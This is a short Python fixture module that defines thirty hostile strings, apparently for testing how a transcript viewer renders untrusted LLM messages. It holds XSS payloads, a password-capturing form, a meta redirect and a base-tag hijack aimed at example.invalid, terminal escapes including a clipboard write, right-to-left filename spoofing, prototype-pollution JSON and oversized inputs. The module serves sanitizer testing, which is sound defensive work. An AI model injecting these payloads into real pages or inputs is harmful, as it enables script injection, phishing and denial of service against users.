"""Thirty transcripts that mean harm to whoever looks at them, as messages of an LLM call."""

from __future__ import annotations

import json

MARK = "window.hacked=1"
_BIG = 10 * 2**20

TEXTS: dict[str, str] = {
    "script": f"<script>{MARK}</script>",
    "image": f"<img src=x onerror={MARK}>",
    "svg": f"<svg onload={MARK}><script>{MARK}</script></svg>",
    "frame": f"<iframe srcdoc='<script>parent.{MARK}</script>'></iframe>",
    "javascript link": f"<a href='javascript:{MARK}'>click</a> [click](javascript:{MARK})",
    "data link": f"data:text/html,<script>{MARK}</script>",
    "style": "<style>*{display:none!important}</style><link rel=stylesheet href=//example.invalid/x.css>",
    "closes everything": f"</p></div></section></main></body></html><script>{MARK}</script>",
    "closes script": f"</script><script>{MARK}</script>",
    "comment": f"<!-- --><script>{MARK}</script><!--",
    "cdata": f"<![CDATA[<script>{MARK}</script>]]>",
    "template": "{{constructor.constructor('window.hacked=1')()}} ${window.hacked=1} <%= 7*7 %>",
    "math": f"<math><mtext><table><mglyph><style><img src=x onerror={MARK}>",
    "entities": "&lt;script&gt;window.hacked=1&lt;/script&gt; &#60;b&#62;",
    "meta": "<meta http-equiv=refresh content='0;url=https://example.invalid'>",
    "form": "<form action=https://example.invalid><input name=password autofocus></form>",
    "base": "<base href=https://example.invalid/>",
    "event attribute": f'" onmouseover="{MARK}" x="',
    "control characters": "".join(map(chr, range(1, 32))) + "\x7f\x9b31m",
    "terminal escapes": "\x1b[2J\x1b]0;title\x07\x1b]52;c;ZWNobw==\x07",
    "right to left": "invoice\u202egnp.exe \u2067hidden\u2069 \u200f\u061c",
    "zero width": "pass\u200bword\u200d\ufeff" * 50,
    "combining": "Z" + "\u0335\u0321\u0349" * 2000,
    "half a surrogate": "broken \ud800 and \udfff text",
    "replacement": b"broken \xff\xfe\xc3( bytes".decode("utf-8", "replace"),
    "one huge line": "a" * 200_000,
    "ten megabytes": "0123456789 " * (_BIG // 11),
    "many lines": "\n" * 50_000 + "the end",
    "deep JSON": "[" * 50_000 + "]" * 50_000,
    "proto": json.dumps({"__proto__": {"hacked": 1}, "constructor": {"prototype": {"hacked": 1}}}),
}
